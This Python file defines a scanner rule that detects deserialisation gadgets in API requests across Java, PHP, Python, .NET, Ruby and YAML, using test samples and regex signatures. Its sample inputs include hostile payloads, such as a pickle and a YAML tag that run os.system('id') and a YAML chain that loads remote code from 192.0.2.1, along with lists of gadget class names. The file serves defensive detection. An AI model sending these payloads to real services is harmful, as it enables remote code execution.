"""Deserialisation gadgets: a serialised object where plain values belong.

Java's, Python's, PHP's, Ruby's and .NET's own serialisations, YAML tags and JSON with type names make the reader build objects of
the sender's choice, which run code while they are built. No API needs to take them from callers.

The rule looks for the beginnings of such streams, plain, in base64 and in hexadecimal, and for type names of known gadgets.

To fix: JSON into declared types; never the language's own serialisation; safe loaders of YAML; no polymorphic types by name.

What it does not protect against: streams that are compressed or encrypted, and formats of an application's own.
"""

from yett.formats.inspected import Origin
from yett.model.rule import AttackRule, Payload, Severity
from yett.rules.inspection.signature import REQUEST, TEXTS, Found, Signature

RULE = AttackRule(
    id="deserialisation-gadget",
    title="Deserialisation gadget",
    severity=Severity.CRITICAL,
    owasp=("API8:2023", "API10:2023"),
    cwe=(502, 915),
    references=(
        "https://cheatsheetseries.owasp.org/cheatsheets/Deserialization_Cheat_Sheet.html",
        "https://github.com/frohoff/ysoserial",
    ),
    matches=(
        Payload("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw", "cookie session"),
        Payload('O:8:"stdClass":1:{s:4:"user";s:5:"admin";}', "query data"),
        Payload('{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"x","autoCommit":true}', "body"),
        Payload('{"@type": "java.net.Inet4Address", "val": "x.example"}', "body"),
        Payload("cos\nsystem\n(S'id'\ntR.", "form data"),
        Payload("gASVJAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==", "cookie state"),
        Payload("!!python/object/apply:os.system ['id']"),
        Payload('!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://192.0.2.1/"]]]]'),
        Payload("AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0=", "form state"),
        Payload('{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}', "body"),
        Payload("--- !ruby/object:Gem::Installer\ni: x\n", "body application/x-yaml"),
        Payload("aced0005737200116a6176612e7574696c2e", "query o"),
        Payload("TzoxMjoiVXNlclNlc3Npb24iOjE6e30=", "query o"),
        Payload('s:5:"admin";', "query user"),
        Payload("BAhvOgZBBjoHQHhpBg==", "query o"),
        Payload('{"settings": "{\\"py/object\\": \\"os.system\\"}"}', "body"),
    ),
    passes=(
        Payload('{"@type": "Person", "@context": "https://schema.org"}', "body"),
        Payload('{"$type": "System.String", "x": "O:8"}', "body"),
        Payload("!!! important: python/object models"),
        Payload("rOOABX is no stream"),
        Payload("Bahamas", "query country"),
        Payload('{"exception": "java.lang.NullPointerException"}', "body"),
        Payload("YTower", "query q"),
        Payload("kztaau", "query q"),
        Payload("a:1 s:2 O:3 in a table"),
        Payload("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk", "body /image"),
    ),
)

SIGNATURES = (
    Signature(
        id="java",
        pattern=rb"\brO0AB[QXY]|\b(?:KztAAU|Cs7QAF)|\xac\xed\x00\x05$|^ac[ :]?ed[ :]?00[ :]?05\b"
        rb"|\baced0005(?:7[0-9a-f])|\xac\xed\x00\x05[\x70-\x7e]|\bH4sIAAAAAAAA\w{0,4}(?:Fvzlo"
        rb"|J1bW)|<java\b[^>]*class\s*=\s*[\"']java\.beans\.XMLDecoder"
        rb"|<object\s+class\s*=\s*[\"']java\.lang\.(?:Runtime|ProcessBuilder)",
        reason="a serialised object of Java",
        where=REQUEST,
        confirm=lambda found: found.text[found.start : found.start + 2].upper() != b"KZ" or _as_written(found, b"KztAAU"),
    ),
    Signature(
        id="java-classes",
        pattern=rb"com\.sun\.rowset\.JdbcRowSetImpl|org\.apache\.(?:commons\.collections4?\.(?:functors|Transformer"
        rb"|map\.LazyMap|keyvalue)|xalan\.xsltc\.trax|commons\.beanutils\.BeanComparator"
        rb"|commons\.configuration2?\.JNDIConfiguration|shiro\.jndi|tomcat\.dbcp|ibatis\.datasource\.jndi"
        rb"|bcel\.internal|openjpa\.ee)"
        rb"|com\.sun\.org\.apache\.(?:xalan|bcel)\.internal|javax\.management\.BadAttributeValueExpException"
        rb"|org\.codehaus\.groovy\.runtime\.(?:ConvertedClosure|MethodClosure)"
        rb"|org\.springframework\.(?:beans\.factory\.ObjectFactory|context\.support\.(?:ClassPath"
        rb"|FileSystem)XmlApplicationContext|aop\.config\.MethodLocatingFactoryBean)"
        rb"|com\.mchange\.v2\.c3p0\.\w{0,40}(?:DataSource|WrapperConnectionPool)|java\.beans\.EventHandler"
        rb"|ch\.qos\.logback\.core\.db\.(?:JNDI|DriverManager)\w*|com\.zaxxer\.hikari\.HikariConfig"
        rb"|org\.hibernate\.jmx|sun\.reflect\.annotation\.AnnotationInvocationHandler"
        rb"|\bjava\.net\.URLClassLoader\b\s*[\[(\"']|javax\.script\.ScriptEngineManager\s*[\[(\"']",
        reason="a class that is known as a gadget",
        confirm=lambda found: _is_object(found),
    ),
    Signature(
        id="php",
        pattern=rb"(?:^|[\"';{}:=\s|])(?:O|C|E):\+?\d{1,5}:\s*\\?\"[\w\\]{1,100}(?:\\?\":\+?\d{1,6}:\s*\{|:\w{1,60}\";)"
        rb"|^[OC]:\+?\d{1,5}:\\?\"[\w\\]{2,100}|^s:\d{1,6}:\\?\"[^\"]{0,400}\";$|^[bi]:\d{1,9};$|(?:^"
        rb"|/)a:\d{1,5}:\{(?:i:\d{1,9};|s:\d{1,6}:\\?\")|\bTzo\d[\w+/]{12}|\bphar://",
        reason="a serialised object of PHP",
        where=TEXTS,
        confirm=lambda found: len(found.text) <= 65_536,
    ),
    Signature(
        id="python",
        pattern=rb"\bc(?:os|posix|nt|subprocess|__builtin__|builtins|sys|commands|pty|runpy"
        rb"|importlib)\r?\n\w{2,30}\r?\n|\bgA[JMNQRSU][\w+/]{1,60}(?:jBXBvc2l4|cG9zaXg|c3VicHJvY2Vzc"
        rb"|X19idWlsdGlu|YnVpbHRpbnM|c3lzdGVt|cG9wZW4)|\x80[\x02-\x05](?:c|\x95.{8}\x8c).{0,12}(?:posix|os"
        rb"|subprocess|builtins|__builtin__|nt)\b|!!python/(?:object|name|module|tuple|str:)\S*?"
        rb"|\bY29z[\w+/]{4,20}",
        reason="a pickled object or a YAML tag of Python",
        needle=rb"\bc(?:os|posix|nt|subprocess|__builtin__|builtins|sys|commands|pty|runpy|importlib)\s+\w{2,30}\s"
        rb"|\bgA[JMNQRSU][\w+/]*(?:jBXBvc2l4|cG9zaXg|c3VicHJvY2Vzc|X19idWlsdGlu|YnVpbHRpbnM|c3lzdGVt|cG9wZW4)"
        rb"|\x80[\x02-\x05](?:c|\x95)|!!python/|\bY29z[\w+/]{4,20}",
        where=REQUEST,
        confirm=lambda found: _is_pickle(found),
    ),
    Signature(
        id="dotnet",
        pattern=rb"AAEAAAD/////AQAAAA|\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00"
        rb"|[\"']\$type[\"']\s*:\s*[\"']System\.(?:Windows\.Data\.ObjectDataProvider|Diagnostics\.Process"
        rb"|Configuration\.Install|Management\.Automation|Security\.(?:Principal|Claims)|Data\.Services"
        rb"|IO\.(?:FileInfo|DirectoryInfo)|Web\.Security|Activities|Xaml|Collections\.Generic\.SortedSet)"
        rb"|\bObjectDataProvider\b.{0,200}\b(?:MethodName|ObjectInstance)\b"
        rb"|System\.(?:Windows\.Data\.ObjectDataProvider|Management\.Automation\.PSObject"
        rb"|Configuration\.Install\.AssemblyInstaller|Activities\.Presentation\.WorkflowDesigner)\b"
        rb"|<ResourceDictionary\b.{0,300}ObjectDataProvider",
        reason="a serialised object of .NET",
        where=REQUEST,
    ),
    Signature(
        id="ruby-and-node",
        pattern=rb"!ruby/(?:object|hash|struct|regexp|class|module|exception|array|sym|range):?[\w:]{0,60}"
        rb"|\x04\x08o:[\x06-\x40]\w{2}|\bBAhvOg\w{4}|_\$\$ND_FUNC\$\$_|\bBAhb[CG]\w{4}",
        reason="a serialised object of Ruby or Node.js",
        where=REQUEST,
    ),
    Signature(
        id="in-base64",
        pattern=rb"(?:^|=)[\s\"']*(?:gA(?:SV|WV|J[cj]|N[9c]|I[c]|R[9])[\w+/\-]{6,}|Tzo[0-9xyz][\w+/\-]{6,}|YTo[0-9xyz][\w+/\-]{6,}"
        rb"|BAh(?:v|J|b|7|s|i)[\w+/\-]{1,}|Y(?:3Bvc2l4|29zCn|19fYnVpbHRpbl9f|19idWlsdGlu|3N1YnByb2Nlc3)[\w+/\-]{0,})={0,2}[\s\"']*$"
        rb"|[\s\"'=:(,](?:gA(?:SV|WV)|Tzo[0-9xyz]|BAh[vJb7]|Y3Bvc2l4|Y29zCn|Y19fYnVpbHRpbl9f|Y3N1YnByb2Nlc3)[\w+/]{12}",
        reason="a serialised object in base64",
        needle=rb"(?:^|=)[\s\"']*(?:gA(?:SV|WV|J[cj]|N[9c]|Ic|R9)[\w+/\-]{6}|[TY]zo[0-9xyz][\w+/\-]{6}|YTo[0-9xyz][\w+/\-]{6}"
        rb"|BAh[vJb7si][\w+/\-]|Y(?:3Bvc2l4|29zCn|19fYnVpbHRpbl9f|19idWlsdGlu|3N1YnByb2Nlc3))"
        rb"|[\s\"'=:(,](?:gA(?:SV|WV)|Tzo[0-9xyz]|BAh[vJb7]|Y3Bvc2l4|Y29zCn|Y19fYnVpbHRpbl9f|Y3N1YnByb2Nlc3)[\w+/]{12}",
        where=TEXTS,
        span=65_536,
        confirm=lambda found: _as_written(
            found,
            *(b"gASV", b"gAWV", b"gAJc", b"gAJj", b"gAN9", b"gANc", b"gAIc", b"gAR9", b"Tzo", b"YTo"),
            *(b"BAhv", b"BAhJ", b"BAhb", b"BAh7", b"BAhs", b"BAhi"),
            *(b"Y3Bvc2l4", b"Y29zCn", b"Y19fYnVpbHRpbl9f", b"Y19idWlsdGlu", b"Y3N1YnByb2Nlc3"),
        ),
    ),
    Signature(
        id="objects-of-libraries",
        pattern=rb"[\"']py/(?:object|reduce|function|type|newobj|repr)[\"']\s*:|<dynamic-proxy>|\bjdk\.nashorn\.internal\.objects\."
        rb"|<(?:sorted-set|tree-map|java\.util\.PriorityQueue)[\s>].{0,400}(?:<handler\b|class\s*=\s*[\"']java|<string>.{0,80}</string>\s*<)"
        rb"|[\"']\$type[\"']\s*:\s*[\"']System\.[\w.`\[\]]{2,200},\s*\w",
        reason="an object of a library that builds what callers name",
        needle=rb"py/(?:object|reduce|function|type|newobj|repr)|<dynamic-proxy>|jdk\.nashorn\.internal\.objects"
        rb"|<(?:sorted-set|tree-map|java\.util\.PriorityQueue)[\s>]|[\"']\$type[\"']\s*:\s*[\"']System\.",
        where=REQUEST,
        span=1_000,
        confirm=lambda found: len(found.text) <= 65_536,
    ),
    Signature(
        id="type-name",
        pattern=rb"^(?:java|javax|jdk|sun|com\.sun)\.[a-z][\w.$]{3,160}$|[\"']@(?:type|class|c)[\"']\s*:\s*[\"'](?:java|javax|jdk|sun|com\.sun)\.[a-z][\w.$]{3,160}[\"']",
        reason="a class of Java as the type of an object",
        where=TEXTS,
        confirm=lambda found: (
            found.start > 0 or found.text[:1] in b"[{" or found.value.name.endswith((b"@type", b"@class", b"@c"))
        ),
    ),
    Signature(
        id="yaml",
        pattern=rb"!!(?:javax?\.|com\.|org\.|sun\.|ch\.)[\w.$]{3,120}|!<!?tag:yaml\.org,2002:(?:python|java|ruby)"
        rb"|!!js/(?:function|undefined|regexp)",
        reason="a YAML tag that names a class",
    ),
)

_UPLOADED = (Origin.UPLOAD, Origin.OPAQUE, Origin.TEXT)


def _as_written(found: Found, *beginnings: bytes) -> bool:
    """Patterns match in both cases, base64 has a meaning in one."""
    return found.text[found.start : found.end].lstrip(b" \t\r\n\"'=:(,").startswith(beginnings)


def _is_object(found: Found) -> bool:
    """The class is named as a type and not told of: in a stack trace, or a text about it."""
    text = found.text
    return len(text) <= 256 or any(
        mark in text[:8_192]
        for mark in (b"@type", b"@class", b'"class"', b"!!", b"\xac\xed", b"<object", b"java.lang.Class", b"$type")
    )


def _is_pickle(found: Found) -> bool:
    piece = found.text[found.start : found.end]
    if piece[:1] == b"c":  # protocol 0: opcodes follow
        rest = found.text[found.end : found.end + 4_096]
        return any(mark in rest for mark in (b"(S", b"(V", b"(c", b"tR", b"R.", b"(lp", b"(X", b"\x85R", b"(dp"))
    if piece[:4] == b"Y29z":
        return len(found.text) <= 4_096 and piece.startswith((b"Y29zCnN5c3Rlb", b"Y29zCnBvcGVu"))
    return True
